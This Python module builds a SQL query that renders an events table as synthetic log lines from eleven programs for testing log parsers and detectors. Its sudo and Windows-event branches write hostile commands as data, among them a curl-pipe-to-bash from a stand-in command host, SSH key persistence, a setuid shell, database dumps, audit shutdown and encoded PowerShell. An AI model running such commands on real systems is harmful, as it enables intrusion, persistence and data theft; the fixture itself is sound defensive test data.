"""A canonical log table over ``events``, the same text in both engines.

The driver's tables hold no logs; each event becomes one line of one of eleven
programs, so that parsers and detectors have something to read.
"""

from __future__ import annotations

from .dialect import Bound, Dialect, bind

PROGRAMS = ["sshd", "firewall", "apache", "dhcpd", "dnsmasq", "winevent", "sysmon", "router_ios", "cron[7]", "squid", "sudo"]


def logs(d: Dialect) -> str:
    """The event table: one nullable superset schema for all formats."""
    e, u = "event_id", "user_id"
    k = f"cast(floor({e} / 11) as bigint)"  # the how-manieth line of its program
    kind = "case " + " ".join(f"when {e} % 11 = {i} then '{p}'" for i, p in enumerate(PROGRAMS)) + " end"
    return f"""
select base.*,
  case when program = 'sshd' then case when status = 'failed' then 'Failed password for ' else 'Accepted password for ' end || coalesce(username, 'ghost') || ' from ' || source_ip || ' port 22'
    when program = 'firewall' then 'action=' || action || ' user=' || coalesce(username, '-') || ' src=' || source_ip || ' dst=' || dest_ip || ' dport=' || cast(dest_port as string) || ' bytes=' || cast(bytes as string)
    when program = 'apache' then source_ip || ' - ' || coalesce(username, '-') || ' [x] "' || method || ' ' || path || ' HTTP/1.1" ' || cast(http_status as string) || ' ' || cast(bytes as string)
    when program = 'dhcpd' then 'DHCP' || upper(action) || ' on ' || source_ip || ' to ' || mac_address || ' (' || device || ') via ' || interface || case when n % 3 = 0 then '' else ' user=' || coalesce(username, '-') end
    when program = 'dnsmasq' then case when status = 'large_answer' then 'reply ' || domain || ' is LARGE_ANSWER' when status = 'nxdomain' then 'reply ' || domain || ' is NXDOMAIN' else 'query[' || query_type || '] ' || domain || ' from ' || source_ip end
    when program = 'winevent' then 'EventID=' || cast(win_id as string) || case
        when win_id = 10 then ' SourceImage="' || case when n % 3 = 0 then 'c:/tools/rundll32.exe' else 'c:/apps/viewer.exe' end || '" TargetImage="' || case when n % 4 = 3 then 'c:/windows/notepad.exe' else 'c:/windows/lsass.exe' end || '" GrantedAccess="0x1fffff"'
        when win_id = 4688 then ' NewProcessName="' || case n % 4 when 0 then 'psexec.exe' when 1 then 'powershell.exe' when 2 then 'wmic.exe' else 'notepad.exe' end || '" CommandLine="' || case n % 3 when 0 then 'powershell -enc SQBFAFgA' when 1 then 'whoami' else 'run' end || '"'
        when win_id = 4698 then ' TaskName="' || case n % 3 when 0 then 'WinUpdate' when 1 then 'Backup' else 'OneDrive Sync' end || '" Action="' || case n % 4 when 0 then 'powershell.exe -nop -enc QUJD' when 1 then 'regsvr32 /s x.dll' when 2 then 'backup.exe' else 'update.exe -run' end || '"'
        when win_id = 7045 then ' ServiceName="' || case n % 3 when 0 then 'Update_42' when 1 then 'Spooler' else 'SvcHost7' end || '" ImagePath="' || case n % 4 when 0 then 'c:/temp/updsvc.exe' when 1 then 'c:/windows/spool.exe' when 2 then 'powershell -enc QUJD' else 'c:/x/svchost.exe' end || '"'
        else ' An event' end
    when program = 'sysmon' then 'EventID=3 User=' || coalesce(username, '-') || ' Image=' || image || ' DestinationIp=' || dest_ip || ' DestinationPort=' || cast(dest_port as string)
    when program = 'router_ios' then case n % 6 when 0 then '%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user:' || coalesce(username, 'x') || '] [Source:' || source_ip || ']' when 1 then '%SYS-5-CONFIG_I: Configured from vty by ' || coalesce(username, 'x') || ' (' || source_ip || ')' when 2 then '%BGP-5-ADJCHANGE: neighbor ' || dest_ip || ' Down' when 3 then '%LINK-3-UPDOWN: Interface Gi0/1, changed state to down' when 4 then '%OSPF-5-ADJCHG: Process 1, Nbr ' || dest_ip || ' on Gi0/2 from FULL to DOWN' else '%LINEPROTO-5-UPDOWN: Line protocol on Interface Gi0/3, changed state to up, eth1: Link is Up' end
    when program = 'cron[7]' then case n % 4 when 0 then '(' || coalesce(username, 'root') || ') CMD (/opt/backup.sh)' when 1 then '(CRON) INFO (pidfile fd = 3)' when 2 then 'Reloading nginx server, requested by ' || coalesce(username, 'root') else '(root) CMD (/opt/rotate' || cast(n % 5 as string) || '.sh)' end
    when program = 'squid' then method || ' http://site' || cast(n % 9 as string) || '.example.org' || path
    else case n % 13 when 0 then coalesce(username, 'ghost') || ' : TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/bin/ls' when 1 then 'COMMAND=sudo usermod -aG sudo eve' when 2 then 'chmod u+s /bin/bash' when 3 then 'COPY salary TO stdout' when 4 then 'mysqldump --all-databases' when 5 then 'Stopping auditd service' when 6 then 'nginx.service: Deactivated successfully' when 7 then 'curl -s http://c2.example.net/x | bash' when 8 then 'echo key >> /root/.ssh/authorized_keys' when 9 then 'DROP TABLE invoices' when 10 then coalesce(username, 'ghost') || ' -> 203.0.113.9:/tmp/out.tgz bytes=' || cast(bytes * 9 as string) when 11 then 'NETFILTER_PKT len=' || cast(bytes * 9 as string) || ' dst=203.0.113.8' else 'session opened for user root' end
  end as message
from (
  select {e} as row_id, ts as timestamp, {kind} as program, {k} as n,
    case when {e} % 50 = 0 then null else 'user' || cast({u} % 30 as string) end as username,
    case when {e} % 7 = 0 then '203.0.113.' || cast({u} % 20 as string) else '10.0.' || cast({u} % 8 as string) || '.' || cast({e} % 20 as string) end as source_ip,
    case when {e} % 3 = 0 then '198.51.100.' || cast({u} % 16 as string) else '10.10.10.' || cast({e} % 5 * 10 as string) end as dest_ip,
    case {k} % 8 when 0 then 22 when 1 then 80 when 2 then 443 when 3 then 3389 when 4 then 8080 when 5 then 53 when 6 then 445 else 8000 + {e} % 7 end as dest_port,
    'srv' || cast({e} % 3 as string) || '.internal' as dst_host,
    'host' || cast({u} % 9 as string) as host, 'dev-' || cast({u} % 40 as string) as device,
    '00:11:22:33:44:' || cast(10 + {u} % 25 as string) as mac_address,
    'eth' || cast({e} % 6 as string) as interface, cast({e} % 4 as string) as vlan,
    case {e} % 11 when 0 then 'login' when 1 then case when {k} % 3 = 0 then 'ALLOW' else 'DENY' end when 2 then 'access'
      when 3 then case {k} % 5 when 0 then 'discover' when 1 then 'offer' when 2 then 'request' when 3 then 'ack' else 'release' end
      when 4 then case when {k} % 4 < 2 then 'reply' else 'query' end when 6 then 'network_connect' when 10 then 'sudo' else 'event' end as action,
    case {e} % 11 when 0 then case when {k} % 3 <> 0 then 'failed' else 'success' end when 1 then case when {k} % 3 = 0 then 'success' else 'blocked' end
      when 4 then case {k} % 4 when 0 then 'large_answer' when 1 then 'nxdomain' else 'info' end when 10 then 'success' else 'info' end as status,
    case when {e} % 11 in (2, 9) then case ({k} + {u}) % 10 when 0 then 401 when 1 then 401 when 2 then 403 when 3 then 500 when 4 then 304 else 200 end end as http_status,
    cast(floor(value * 100000) as bigint) as bytes,
    case {k} % 4 when 0 then 'POST' when 1 then 'DELETE' else 'GET' end as method,
    case {k} % 6 when 0 then '/export/all.csv' when 1 then '/admin' when 2 then '/img/logo.png' when 3 then '/download/a.zip' else '/page/' || cast({u} % 10 as string) end as path,
    case {k} % 5 when 0 then 'ELB-HealthChecker/2.0' when 1 then 'Googlebot/2.1' else 'Mozilla/5.0 Device/dev-' || cast({u} % 40 as string) || ' Dept/Sales' end as user_agent,
    case {e} % 11 when 5 then case {k} % 6 when 0 then 4672 when 1 then 4688 when 2 then 10 when 3 then 4698 when 4 then 7045 else 4624 end when 6 then 3 end as win_id,
    case when {k} % 5 = 0 then 'c:/windows/powershell.exe' when {k} % 5 = 1 then 'c:/apps/psexec.exe' else 'c:/apps/chrome.exe' end as image,
    case {k} % 5 when 0 then 'xkcdqwrtpsdfg' when 1 then 'a.verylongsubdomain.of.example.net' when 2 then 'x_dns.tunnel.example.org' else 'site' || cast({k} % 20 as string) || '.example.com' end as domain,
    case when {k} % 3 = 0 then 'TXT' else 'A' end as query_type,
    case {u} % 4 when 0 then 'VN' when 1 then 'US' when 2 then 'CN' end as source_country,
    case {u} % 5 when 0 then 'ITAdmin' when 1 then 'Engineering' when 2 then 'Sales' when 3 then 'Finance' end as dept,
    case {k} % 4 when 0 then 'TCP_MISS/200' when 1 then 'TCP_HIT/200' else 'TCP_DENIED/403' end as result_code,
    case when {e} % 13 = 0 then 'INFO' else 'notice' end as severity
  from @events
) as base
"""


def changed(**columns: str) -> Bound:
    """The log table with some columns computed anew, e.g. ``timestamp``."""
    names = "row_id timestamp program n username source_ip dest_ip dest_port dst_host host device mac_address interface vlan action status http_status bytes method path user_agent win_id image domain query_type source_country dept result_code severity message".split()

    def build(d: Dialect) -> str:
        made = {c: e.replace("{us}", d.micros("timestamp")) for c, e in columns.items()}
        if "timestamp" in made:
            made["timestamp"] = d.from_micros(made["timestamp"])
        return "select " + ", ".join(f"{made[c]} as {c}" if c in made else c for c in names) + " from @logs as l"

    return bind(build, logs=logs)


#: Thirty days pressed into about fifteen minutes.
PRESSED = "cast(1704067200000000 + floor(({us} - 1704067200000000) / 3000) as bigint)"
dense = changed(timestamp=PRESSED)
#: Every row from an address of its own, in pressed time.
spread = changed(timestamp=PRESSED, source_ip="'172.20.' || cast(row_id % 40 as string) || '.' || cast(cast(floor(row_id / 40) as bigint) as string)")
heavy = changed(dest_ip="'198.51.100.' || cast(row_id % 16 as string)", bytes="bytes * case when row_id % 7 = 0 then 900 else 1 end", source_ip="'10.7.7.' || cast(row_id % 5 as string)")
#: Few users and inner addresses; the web server's lines name them too.
inside = changed(
    source_ip="'10.9.9.' || cast(row_id % 60 as string)", username="'user' || cast(row_id % 6 as string)",
    message="case when program = 'apache' then '10.9.9.' || cast(row_id % 60 as string) || ' - user' || cast(row_id % 6 as string) || substr(message, instr(message, ' [')) else message end",
)
#: Addresses of one program each, so that some see mostly blocked rows.
auth = changed(source_ip="'10.' || cast(row_id % 11 as string) || '.0.' || cast(row_id % 4 as string)")
#: Every twenty seconds, few users and addresses.
steady = changed(timestamp="1704067200000000 + n * 20000000", dest_ip="'198.51.100.' || cast(row_id % 2 as string)", username="'user' || cast(n % 5 as string)")
storm = changed(timestamp=PRESSED, username="'user' || cast(row_id % 3 as string)")
peak = changed(timestamp="case when row_id % 4 = 0 then 1704067200000000 + 720000000 else " + PRESSED + " end")
